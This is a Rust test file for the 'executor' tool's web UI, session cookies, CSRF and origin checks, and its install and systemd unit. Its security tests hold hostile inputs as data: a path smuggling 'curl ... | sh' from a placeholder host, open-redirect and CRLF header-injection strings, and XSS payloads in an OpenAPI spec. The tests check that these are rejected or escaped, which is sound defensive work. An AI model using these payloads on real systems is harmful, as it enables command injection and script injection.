//! The web UI and `executor install`.
//!
//! - In headless Chromium (Debian's, driven by playwright-core): sign in
//!   with the one-time URL `executor web --no-open` prints, copy the Connect
//!   card's URL, add an OpenAPI source through Add Source, see its tools, run
//!   one, approve a paused write on its approval page. Screenshots are kept
//!   in `target/test-output/web/`.
//! - Browser access without a browser: the cookie's attributes, one-time
//!   codes, CSRF and origin checks, no open redirect.
//! - `executor install` in its fallback mode (no service manager), and the
//!   systemd unit it writes checked by `systemd-analyze verify`.

mod support;

use std::process::Command;

use serde_json::{Value, json};
use support::service::{EXE, Service, start_recording_upstream, text};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_web_ui_adds_runs_and_approves_in_chromium() {
    let (upstream, seen) = start_recording_upstream().await;
    let home = tempfile::tempdir().unwrap();
    let service = Service::start(home.path());
    let shots = support::repo_root().join("target/test-output/web");
    let _ = std::fs::remove_dir_all(&shots);

    let out = Command::new("node")
        .arg(support::repo_root().join("tests/node/web-e2e.mjs"))
        .arg(service.login_url())
        .arg(format!("{upstream}/openapi.yaml"))
        .arg(&shots)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let saw: Value = serde_json::from_slice(&out.stdout).unwrap();

    assert!(
        saw["signedOut"].as_str().unwrap().contains("executor web"),
        "{saw}"
    );
    assert_eq!(saw["afterLogin"], "/");
    assert_eq!(
        saw["cookies"],
        json!([{
            "name": format!("executor_session_{}", service.url.rsplit(':').next().unwrap()),
            "httpOnly": true,
            "sameSite": "Strict"
        }])
    );
    assert_eq!(saw["clipboard"], format!("{}/mcp", service.url));
    assert!(
        saw["added"]
            .as_str()
            .unwrap()
            .contains("Added the openapi source echo"),
        "{saw}"
    );
    // One tool per operation of the fixture.
    let operations = std::fs::read_to_string(support::fixtures().join("service/echo.yaml"))
        .unwrap()
        .matches("operationId:")
        .count();
    assert_eq!(saw["tools"], operations, "{saw}");
    let row: Vec<&str> = saw["integrations"].as_str().unwrap().split('\t').collect();
    assert_eq!(row[0], "echo\nEcho", "{saw}");
    assert_eq!(row[1], "openapi");
    assert_eq!(row[2], saw["tools"].to_string());
    assert_eq!(row[4], format!("{}/openapi.yaml", upstream));
    assert_eq!(saw["inputSchema"]["properties"]["id"]["type"], "integer");
    assert_eq!(saw["read"]["ok"], true, "{saw}");
    assert_eq!(saw["read"]["data"]["path"], "/v1/items/7", "{saw}");
    // A script from the home page's panel (code mode).
    assert_eq!(saw["script"]["ok"], true, "{saw}");
    assert_eq!(saw["script"]["data"], "/v1/items/9", "{saw}");
    assert_eq!(saw["paused"]["error"]["code"], "execution_paused", "{saw}");
    assert!(
        saw["approvalPage"]
            .as_str()
            .unwrap()
            .contains("from the browser"),
        "{saw}"
    );
    assert_eq!(saw["approved"]["ok"], true, "{saw}");
    assert_eq!(saw["approved"]["data"]["method"], "POST", "{saw}");
    assert_eq!(saw["stateAfter"], "completed");
    assert_eq!(saw["buttonsAfter"], 0, "{saw}");
    assert_eq!(saw["badgeAfter"], 0, "{saw}");
    assert!(
        saw["approvals"]
            .as_str()
            .unwrap()
            .contains("Nothing is waiting"),
        "{saw}"
    );
    let connections = saw["connections"].as_str().unwrap();
    assert!(
        connections.contains("echo")
            && connections.contains("bearer")
            && connections.contains("stored"),
        "{saw}"
    );
    assert_eq!(saw["connectionsHtmlHasSecret"], false);
    assert_eq!(saw["policiesAdded"], json!(["echo.*", "echo.*.*.items.*"]));
    assert_eq!(saw["policiesMoved"], json!(["echo.*.*.items.*", "echo.*"]));
    assert_eq!(saw["policiesLeft"], json!(["echo.*.*.items.*"]));
    assert!(
        saw["badPattern"]
            .as_str()
            .unwrap()
            .contains("invalid pattern"),
        "{saw}"
    );
    let (_, rules) = service.get("/api/policies").await;
    assert_eq!(rules["data"].as_array().unwrap().len(), 1, "{rules}");
    assert_eq!(saw["toolsAfterRefresh"], saw["tools"], "{saw}");
    assert!(
        saw["afterRemove"]
            .as_str()
            .unwrap()
            .contains("No sources yet"),
        "{saw}"
    );
    assert_eq!(
        seen.lock()
            .unwrap()
            .iter()
            .filter(|l| *l == "GET /openapi.yaml")
            .count(),
        2,
        "added, then refreshed"
    );
    assert_eq!(saw["problems"], json!([]), "{saw}");
    // The write reached the upstream once, after the approval.
    let posts = seen
        .lock()
        .unwrap()
        .iter()
        .filter(|l| *l == "POST /v1/items")
        .count();
    assert_eq!(posts, 1);
    for name in [
        "01-home",
        "03-added",
        "04-run",
        "06-approval",
        "07-approved",
    ] {
        let png = std::fs::read(shots.join(format!("{name}.png"))).unwrap();
        assert!(png.starts_with(b"\x89PNG") && png.len() > 10_000, "{name}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browser_sessions_are_one_time_http_only_and_csrf_bound() {
    let home = tempfile::tempdir().unwrap();
    let service = Service::start(home.path());
    runtime::install_crypto_provider();
    let browser = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();

    // Signed out: every page says how to sign in; the API refuses.
    for page in ["/", "/policies", "/resume/exec_0123"] {
        let r = browser
            .get(format!("{}{page}", service.url))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401, "{page}");
        assert!(r.text().await.unwrap().contains("executor web"), "{page}");
    }
    // A path that is not plain never reaches the printed command.
    let r = browser
        .get(format!(
            "{}/integrations/x;curl$IFS-s$IFS.example|sh",
            service.url
        ))
        .send()
        .await
        .unwrap();
    let page = r.text().await.unwrap();
    assert!(
        page.contains("executor web") && !page.contains("--page"),
        "{page}"
    );
    // An approval page says how to sign in and land on it.
    let r = browser
        .get(format!("{}/resume/exec_0123", service.url))
        .send()
        .await
        .unwrap();
    assert!(r.text().await.unwrap().contains("--page /resume/exec_0123"),);
    let out = service.cli(&["web", "--no-open", "--page", "/resume/exec_0123"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let r = browser.get(text(&out.stdout).trim()).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/resume/exec_0123");
    let out = service.cli(&["web", "--no-open", "--page", "https://evil.example/"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("--page takes a path"),
        "{}",
        text(&out.stderr)
    );

    // Only this service's plain paths are followed after signing in.
    for next in [
        "//evil.example/",
        "/%09/evil.example",
        "/%0d%0aSet-Cookie:x=1",
        "/\\evil.example",
    ] {
        let url = service.login_url();
        let r = browser
            .get(format!("{url}&next={next}"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "{next}");
        assert_eq!(r.headers()["location"], "/", "{next}");
    }
    let url = service.login_url();
    let r = browser.get(&url).send().await.unwrap();
    assert_eq!(r.status(), 303);
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_owned();
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(cookie.contains(attribute), "{cookie}");
    }
    let session = cookie.split(';').next().unwrap().to_owned();
    // The code works once.
    let again = browser.get(&url).send().await.unwrap();
    assert_eq!(again.status(), 401);

    let page = browser
        .get(format!("{}/policies", service.url))
        .header("cookie", &session)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    assert_eq!(page.headers()["x-frame-options"], "DENY");
    assert!(
        page.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("frame-ancestors 'none'")
    );
    let html = page.text().await.unwrap();
    let csrf = html
        .split("<meta name=\"csrf\" content=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap()
        .to_owned();
    assert_eq!(csrf.len(), 64);

    // What sources say is text, never markup.
    let spec = "openapi: 3.1.0
info: { title: '<script>alert(1)</script>', version: '1', description: '<b onmouseover=alert(3)>x</b>' }
paths:
  /x:
    get:
      operationId: x
      summary: '<img src=x onerror=alert(2)>'
      responses: { '200': { description: ok } }
";
    let r = service
        .invoke(
            "executor.openapi.addSource",
            json!({"spec": spec, "namespace": "xss", "baseUrl": "http://127.0.0.1:9"}),
        )
        .await;
    assert_eq!(r.1["ok"], true, "{}", r.1);
    for page in ["/", "/integrations/xss"] {
        let html = browser
            .get(format!("{}{page}", service.url))
            .header("cookie", &session)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for raw in ["<script>alert", "<img src=x", "<b onmouseover"] {
            assert!(!html.contains(raw), "{page} carries {raw}");
        }
        assert!(html.contains("&#60;script&#62;alert(1)"), "{page}: {html}");
    }

    let add = |csrf: Option<&str>, origin: Option<&str>| {
        let mut request = browser
            .post(format!("{}/api/policies", service.url))
            .header("cookie", &session)
            .json(&json!({"pattern": "echo.*", "action": "block"}));
        if let Some(csrf) = csrf {
            request = request.header("x-csrf-token", csrf);
        }
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        request.send()
    };
    // The cookie alone is not enough: a form posted from elsewhere has no token.
    assert_eq!(add(None, None).await.unwrap().status(), 401);
    assert_eq!(
        add(Some("0".repeat(64).as_str()), None)
            .await
            .unwrap()
            .status(),
        401
    );
    assert_eq!(
        add(Some(&csrf), Some("http://evil.example"))
            .await
            .unwrap()
            .status(),
        403
    );
    let r = add(Some(&csrf), Some(&service.url)).await.unwrap();
    assert_eq!(r.status(), 200);
    let (_, rules) = service.get("/api/policies").await;
    assert_eq!(rules["data"][0]["pattern"], "echo.*", "{rules}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn install_falls_back_to_a_background_process_without_a_service_manager() {
    let home = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
        .to_string();
    let executor = |args: &[&str]| {
        Command::new(EXE)
            .args(args)
            .env("EXECUTOR_HOME", home.path())
            .env("EXECUTOR_SERVICE_MANAGER", "none")
            .env("EXECUTOR_PORT", &port)
            .output()
            .unwrap()
    };

    let out = executor(&["service", "status"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("installed: no"));

    let out = executor(&["install"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("no service manager here"),
        "{}",
        text(&out.stderr)
    );
    assert!(text(&out.stderr).contains("started"));
    let url = format!("http://127.0.0.1:{port}");
    assert!(text(&out.stdout).contains(&url), "{}", text(&out.stdout));
    let health = support::service::http()
        .get(format!("{url}/api/health"))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);

    // Idempotent: the running service is kept.
    let out = executor(&["install"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("keeping"),
        "{}",
        text(&out.stderr)
    );
    let out = executor(&["service", "status"]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    let status = text(&out.stdout);
    assert!(
        status.contains("installed: as a background process"),
        "{status}"
    );
    assert!(
        status.contains(&format!("running: yes, at {url}")),
        "{status}"
    );

    let out = executor(&["uninstall"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("stopped the service"));
    let out = executor(&["service", "status"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stdout).contains("running: no"));
}

#[test]
fn the_systemd_unit_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(EXE)
        .args(["install", "--print", "--port", "4790"])
        .env("EXECUTOR_HOME", dir.path())
        .env("EXECUTOR_SERVICE_MANAGER", "systemd")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let unit = text(&out.stdout);
    assert!(
        unit.contains(&format!(
            "ExecStart={EXE} daemon run --host 127.0.0.1 --port 4790"
        )),
        "{unit}"
    );
    assert!(unit.contains(&format!("EXECUTOR_HOME={}", dir.path().display())));
    let path = dir.path().join("executor.service");
    std::fs::write(&path, &unit).unwrap();
    // Where systemd is installed (CI installs it), its own checker reads the unit.
    if let Ok(verify) = Command::new("systemd-analyze")
        .arg("verify")
        .arg(&path)
        .output()
    {
        // Complaints about the machine (no bus, other units) are not about
        // this unit; any line naming it is.
        let said = format!("{}{}", text(&verify.stdout), text(&verify.stderr));
        assert!(
            verify.status.success() && !said.contains("executor.service"),
            "systemd-analyze verify: {said}"
        );
    }
}
